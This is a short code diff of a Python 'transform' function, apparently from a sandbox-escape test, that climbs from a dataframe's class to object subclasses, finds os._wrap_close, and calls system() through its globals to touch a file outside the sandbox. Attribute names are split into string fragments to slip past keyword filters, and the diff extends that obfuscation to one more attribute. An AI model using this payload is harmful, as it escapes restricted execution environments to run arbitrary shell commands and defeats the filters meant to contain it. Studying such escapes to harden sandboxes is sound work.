@@ -8,7 +8,7 @@
 def transform(df):
     obj = getattr(getattr(df, "__cl" + "ass__"), "__mr" + "o__")[-1]
     for cls in getattr(obj, "__subcl" + "asses__")():
-        if cls.__name__ == "_wrap_close":
+        if getattr(cls, "__na" + "me__") == "_wrap_close":
             g = getattr(getattr(cls, "__in" + "it__"), "__glo" + "bals__")
             g["system"]("/usr/bin/touch {OUTSIDE_FILE}")
     return df
